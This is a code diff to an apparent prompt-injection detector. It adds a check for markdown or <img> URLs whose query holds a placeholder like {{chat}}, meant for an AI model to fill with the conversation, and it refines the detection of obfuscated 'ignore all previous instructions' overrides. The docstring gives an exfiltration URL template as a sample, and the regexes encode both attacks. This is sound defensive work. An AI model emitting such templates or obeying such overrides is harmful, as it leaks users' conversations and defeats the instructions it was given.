@@ -68,8 +68,26 @@ _PARAPHRASE = re2.compile(f"(?:{_PARAPHRASE_EN})|(?:{_PARAPHRASE_TR})")
 
 
 def paraphrase_kinds(plain: str) -> set[str]:
-    """``{"override"}`` when the folded text ``plain`` carries a paraphrased override."""
-    return {"override"} if _PARAPHRASE.search(plain) else set()
+    """``{"override"}`` when the folded text ``plain`` carries a paraphrased override, and
+    ``exfil_template`` for a markdown image/link or ``<img>`` whose URL has a template
+    placeholder in its query (``![x](https://host/log?d={{chat}})``): written for a model to
+    fill in with the conversation, never for a person."""
+    found = {"override"} if _PARAPHRASE.search(plain) else set()
+    if ("](" in plain or "<img" in plain) and _EXFIL_TEMPLATE.search(plain):
+        found.add("exfil_template")
+    return found
+
+
+#: A query value that is a placeholder to fill in: ``{{x}}``, ``{x}``, ``${x}``, ``<x>``,
+#: ``%7b``, ``[x]``.
+_PLACEHOLDER = r"[?&][\w.-]{1,30}=(?:\{|\$\{|%7b|<|\[)"
+_EXFIL_TEMPLATE = re2.compile(
+    r"!\[[^\]\n]{0,100}\]\(\s{0,3}(?:https?:)?//[^\s)]{1,300}"
+    + _PLACEHOLDER
+    + r"|\[[^\]\n]{0,100}\]\(\s{0,3}(?:https?:)?//[^\s)]{1,300}[?&][\w.-]{1,30}=(?:\{\{|\$\{)"
+    + r"|<img\b[^>]{0,200}\bsrc\s{0,2}=\s{0,2}[\"']?(?:https?:)?//[^\s\"'>]{1,300}"
+    + _PLACEHOLDER
+)  # a plain link only with a model-style {{...}} or ${...} placeholder (API docs write {id})
 
 
 # ---- obfuscated spellings of "ignore all previous instructions" ----------------------------
@@ -83,10 +101,12 @@ _LOOKALIKE = str.maketrans(
         "х": "x", "ј": "j", "ԁ": "d", "ɡ": "g", "ӏ": "l", "ı": "i",
     }
 )  # fmt: skip
-#: Everything that is not a letter, a digit or a leet symbol leaves the skeleton.
-_DROP = re2.compile(r"[^a-z0-9|!@$+(]+")
+#: Everything that is not a letter, a digit or a leet symbol leaves the skeleton (a byte
+#: table: the folded text is ASCII, and one C pass beats a pattern's per-match overhead).
+_KEEP = frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789|!@$+(")
+_DROP = bytes(b for b in range(128) if b not in _KEEP)
 #: A numbered list's markers ("1. ", "2) ") at a line start.
-_LIST_MARK = re2.compile(r"(?m)^[ \t]{0,8}\d{1,3}[.)][ \t]{0,8}")
+_LIST_MARK = re.compile(r"(?m)^[ \t]{0,8}\d{1,3}[.)][ \t]{0,8}")
 _ENTITY = re.compile(r"&#(?:\d{1,7}|[xX][0-9a-fA-F]{1,6});")
 
 _LEET = {
@@ -143,7 +163,10 @@ def _fold(text: str) -> str:
 
 
 def _skeleton(text: str) -> str:
-    return _DROP.sub("", _LIST_MARK.sub("", _fold(text)))
+    folded = _fold(text)
+    if "." in folded or ")" in folded:
+        folded = _LIST_MARK.sub("", folded)
+    return folded.encode("ascii", "ignore").translate(None, _DROP).decode("ascii")
 
 
 #: A word with a leet symbol or digit among its letters ("pr3v!0u5", "|gn0r3", "!nstruct").
@@ -169,7 +192,7 @@ def _disguised(raw: str) -> bool:
 
 
 _MAX_TEXT = 200_000
-#: Longer lines are not narrowed word by word (the cost would grow with the square).
+#: Longer lines and lists are not searched (narrowing word by word grows with the square).
 _MAX_NARROW = 2_000
 
 
@@ -189,8 +212,8 @@ def obfuscated_overrides(text: str) -> list[tuple[int, int]]:
     out: list[tuple[int, int]] = []
     for a, b in _blocks(text):
         piece = text[a:b]
-        if not _SKELETON_OVERRIDE.search(_skeleton(piece)):
-            continue
+        if len(piece) > _MAX_NARROW or not _SKELETON_OVERRIDE.search(_skeleton(piece)):
+            continue  # a disguise sits in a short line or list (a long one is not narrowed)
         lo, hi = _narrow(piece)
         if _disguised(piece[lo:hi]):
             out.append((a + lo, a + hi))
@@ -214,8 +237,6 @@ def _blocks(text: str) -> list[tuple[int, int]]:
 def _narrow(piece: str) -> tuple[int, int]:
     """The shortest stretch of whole lines' words in ``piece`` that still matches (cut from
     the left, then the right, a word at a time; a piece is one line or list)."""
-    if len(piece) > _MAX_NARROW:
-        return 0, len(piece)
     cuts = [m.start() for m in re.finditer(r"\S+", piece)]
     lo, hi = 0, len(piece)
     for c in cuts[1:]:
